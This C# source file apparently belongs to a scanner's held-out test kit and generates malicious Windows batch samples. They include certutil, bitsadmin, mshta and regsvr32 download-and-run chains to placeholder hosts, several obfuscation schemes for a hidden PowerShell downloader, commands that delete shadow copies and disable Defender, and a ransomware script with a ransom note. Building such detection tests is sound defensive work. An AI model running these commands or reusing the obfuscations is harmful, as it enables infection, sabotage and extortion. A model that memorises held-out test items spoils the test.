using System.Text;
using static ScanHost.TestKit.HeldOut.Seventh.SeventhForms;
using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Seventh;

/// <summary>Batch files that fetch and run by the programs that Windows brings along.</summary>
public sealed class BatchFetchAndRun : SeventhRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("install.bat", Dos("""
            @echo off
            certutil.exe -urlcache -split -f http://192.0.2.200/tools/agent.exe %TEMP%\agent.exe
            start "" /b %TEMP%\agent.exe
            certutil.exe -urlcache -split -f http://192.0.2.200/tools/agent.exe delete >nul
            exit
            """)),
        ("Windows-Update-KB5071122.cmd", Dos("""
            @echo off
            title Windows Update
            if not "%1"=="h" start /min cmd /c "%~f0" h & exit
            set W=%PROGRAMDATA%\WinUpd
            mkdir "%W%" 2>nul & attrib +h +s "%W%"
            bitsadmin /transfer wu /download /priority high https://kb-mirror.example/kb5071122.dat "%W%\wups.dll" >nul
            if not exist "%W%\wups.dll" bitsadmin /transfer wu2 http://198.51.100.41/kb5071122.dat "%W%\wups.dll" >nul
            rundll32.exe "%W%\wups.dll",ServiceMain
            schtasks /create /f /sc onlogon /rl highest /tn "WinUpd" /tr "rundll32.exe %W%\wups.dll,ServiceMain" >nul
            (goto) 2>nul & del "%~f0"
            """)),
        ("Ver_Comprobante.bat", Dos("""
            @echo off
            chcp 65001 >nul
            echo Abriendo comprobante de pago, espere un momento...
            curl -s -k -L "https://comprobantes-pago.example/ver?id=55120" -o "%PUBLIC%\comprobante.pdf"
            start "" "%PUBLIC%\comprobante.pdf"
            timeout /t 4 /nobreak >nul
            start /min mshta.exe https://comprobantes-pago.example/vista.hta
            regsvr32 /s /n /u /i:https://comprobantes-pago.example/vista.sct scrobj.dll
            msiexec /q /i https://comprobantes-pago.example/visor.msi
            exit /b 0
            """)),
        ("check_disk.bat", Dos(Fill("""
            @echo off & setlocal
            rem Checks drive C: and writes a short report for the help desk
            set "rep=%LOCALAPPDATA%\Temp\chk%random%.log"
            wmic logicaldisk get caption,freespace > "%rep%" 2>nul
            fsutil dirty query c: >> "%rep%" 2>nul
            copy /y "%SystemRoot%\System32\cert*l.exe" "%LOCALAPPDATA%\Temp\cu.com" >nul
            "%LOCALAPPDATA%\Temp\cu.com" -f -decode "%~f0" "%LOCALAPPDATA%\Temp\chk.com" >nul
            for %%I in ("%LOCALAPPDATA%\Temp\chk.com") do if %%~zI GTR 512 call "%%~fI" "%rep%"
            notepad "%rep%"
            exit /b
            -----BEGIN CERTIFICATE-----
            @@1
            -----END CERTIFICATE-----
            """, Wrapped(Convert.ToBase64String(InertFiles.Pe(2048)), 64)))),
    ];
}

/// <summary>Batch files whose commands can only be read once the interpreter has put them together.</summary>
public sealed class BatchInDisguise : SeventhRound
{
    private const string Plain = "powershell -w hidden -nop -ep bypass -c iwr http://192.0.2.66/b/s.exe -OutFile $env:temp/s.exe; saps $env:temp/s.exe";
    private const string Alphabet = "qL0x7uZ:GsK.wB/2 nVfYd6t-Ej$RhMp;Ca9ziTo=5yOmPvXk8ecHb1Wl3rIg4SAUD,NFJQ";

    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("activator.cmd", Dos("@echo off\nset \"kx=" + Alphabet + "\"\ncls\n" + string.Concat(Plain.Select(letter => Alphabet.IndexOf(letter, StringComparison.Ordinal)).Select(at => $"%kx:~{at},1%")) + "\nexit\n")),
        ("Lieferschein.bat", Dos("@e^c^h^o o^f^f\n" + Careted("cmd /c start /min " + Plain) + "\n%zQhWx%e^x%uYtR%i^t\n")),
        ("fix-network.bat", Dos(Tokens())),
        ("run_me.bat", [0xFF, 0xFE, .. Encoding.ASCII.GetBytes(("&cls\n@echo off\n" + FromEnvironment("powershell") + " -" + FromEnvironment("w") + " 1 -" + FromEnvironment("ec") + " "
            + Encoded("saps mshta http://192.0.2.66/b/s.hta") + "\nexit /b\n").ReplaceLineEndings("\r\n"))]),
    ];

    /// <summary>Carets before letters, and the names of variables that do not exist.</summary>
    private static string Careted(string command)
    {
        string[] nothing = ["%qWd%", "%xKpLr%", "%zT%"];
        return string.Concat(command.Select((letter, at) =>
            (at % 5 == 3 ? nothing[at % 3] : "") + (char.IsAsciiLetter(letter) && at % 2 == 0 ? "^" : "") + (at % 4 == 1 ? char.ToUpperInvariant(letter) : letter)));
    }

    /// <summary>Each three letters in a variable of their own, set in another order and called twice expanded.</summary>
    private static string Tokens()
    {
        var pieces = Pieces(Plain, 3);
        var sets = Enumerable.Range(0, pieces.Length).OrderBy(at => at * 37 % 53).Select(at => $"set \"n{at * 7 % 997}_=%nul:~0,0%{pieces[at]}\"");
        var call = string.Concat(Enumerable.Range(0, pieces.Length).Select(at => $"%n{at * 7 % 997}_%"));
        return "@echo off\nsetlocal enableextensions\nset \"nul=ipconfig /flushdns\"\n" + string.Join('\n', sets) + "\nset \"all=" + call + "\"\nipconfig /flushdns >nul\ncall %%all%%\nendlocal\n";
    }

    /// <summary>Letters cut out of variables that every Windows has.</summary>
    private static string FromEnvironment(string command)
    {
        (string Name, string Value)[] known = [("ComSpec", @"C:\WINDOWS\system32\cmd.exe"), ("ProgramFiles", @"C:\Program Files"), ("PUBLIC", @"C:\Users\Public"), ("OS", "Windows_NT"), ("windir", @"C:\WINDOWS"), ("PATHEXT", ".COM;.EXE;.BAT;.CMD;.VBS;.VBE;.JS;.JSE;.WSF;.WSH;.MSC")];
        return string.Concat(command.Select(letter =>
        {
            var (name, value) = known.FirstOrDefault(variable => variable.Value.Contains(letter, StringComparison.OrdinalIgnoreCase));
            return name is null ? "^" + letter : $"%{name}:~{value.IndexOf(letter, StringComparison.OrdinalIgnoreCase)},1%";
        }));
    }
}

/// <summary>Batch files that switch protection off, take the ways back away and leave a demand.</summary>
public sealed class BatchSabotage : SeventhRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("del_shadow.bat", Dos("""
            @echo off
            vssadmin delete shadows /all /quiet
            wmic shadowcopy delete
            bcdedit /set {default} bootstatuspolicy ignoreallfailures
            bcdedit /set {default} recoveryenabled no
            wbadmin delete catalog -quiet
            wbadmin delete systemstatebackup -keepversions:0
            for /f "tokens=*" %%l in ('wevtutil el') do wevtutil cl "%%l"
            del "%~f0"
            """)),
        ("defoff.cmd", Dos("""
            @echo off
            net session >nul 2>&1 || (powershell -c "Start-Process '%~f0' -Verb RunAs" & exit /b)
            reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f
            reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\Real-Time Protection" /v DisableRealtimeMonitoring /t REG_DWORD /d 1 /f
            reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\Spynet" /v SubmitSamplesConsent /t REG_DWORD /d 2 /f
            powershell -ExecutionPolicy Bypass -Command "Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true -MAPSReporting 0"
            powershell -Command "Add-MpPreference -ExclusionPath 'C:\' -ExclusionExtension '.exe','.dll'"
            sc config WinDefend start= disabled & sc stop WinDefend
            sc stop Sense & sc stop wscsvc
            netsh advfirewall set allprofiles state off
            schtasks /change /tn "Microsoft\Windows\Windows Defender\Windows Defender Scheduled Scan" /disable
            curl -s http://203.0.113.7/x.exe -o C:\ProgramData\x.exe && start /b C:\ProgramData\x.exe
            """)),
        ("start_all.bat", Dos("""
            @echo off
            setlocal enabledelayedexpansion
            for %%s in (MSSQLSERVER SQLWriter VeeamBackupSvc VeeamTransportSvc BackupExecAgentBrowser MSExchangeIS vss sophossps) do (
                sc config %%s start= disabled >nul 2>&1
                net stop %%s /y >nul 2>&1
            )
            for %%p in (sqlservr.exe outlook.exe winword.exe excel.exe thebat.exe firefox.exe) do taskkill /f /im %%p >nul 2>&1
            vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB >nul
            vssadmin delete shadows /for=c: /all /quiet >nul
            for /r "%USERPROFILE%\Documents" %%f in (*.docx *.xlsx *.pdf *.jpg *.pst) do (
                "%~dp0enc.exe" -k "%~dp0pub.key" -i "%%f" -o "%%f.n0rth" && del /f /q "%%f"
            )
            (
                echo ALL YOUR FILES HAVE BEEN ENCRYPTED
                echo Your documents, databases and backups were encrypted with a strong algorithm.
                echo Do not rename the files and do not try to restore them yourself.
                echo To buy the decryptor write to north-support@mail.example and state your ID: %COMPUTERNAME%
                echo The price is 0.35 BTC. After 72 hours it doubles and your data will be published.
            ) > "%USERPROFILE%\Desktop\HOW_TO_RESTORE_FILES.txt"
            reg add "HKCU\Control Panel\Desktop" /v Wallpaper /d "%~dp0note.bmp" /f >nul
            notepad "%USERPROFILE%\Desktop\HOW_TO_RESTORE_FILES.txt"
            """)),
        ("pre-migration.cmd", Dos("""
            @echo off
            rem Step 3 of 7: frees space on the volume before the migration
            set "a=dmin" & set "b=shad" & set "c=ete" & set "d=edit"
            set "svc=Win" & set "svc2=Defend"
            call vssa%%a%% del%%c%% %%b%%ows /a^ll /qu^iet
            call bc%%d%% /set {current} safeboot network
            call bc%%d%% /set {current} recovery^enabled no
            powershell -nop -c "Get-CimInstance ('Win32_Sha'+'dowCopy') | Remove-CimInstance; &('Add-Mp'+'Preference') -ExclusionPath $env:ProgramData"
            echo delete %b%ows all> "%TEMP%\m.txt" & disksh%b:~2%ow /s "%TEMP%\m.txt"
            reg add "HKLM\SYSTEM\CurrentControlSet\Control\SafeBoot\Network\Migr" /ve /d Service /f
            sc create Migr binPath= "%ProgramData%\migr.exe --full" start= auto
            reg add "HKLM\SYSTEM\CurrentControlSet\Services\%svc%%svc2%" /v Start /t REG_DWORD /d 4 /f
            shutdown /r /t 5 /f
            """)),
    ];
}
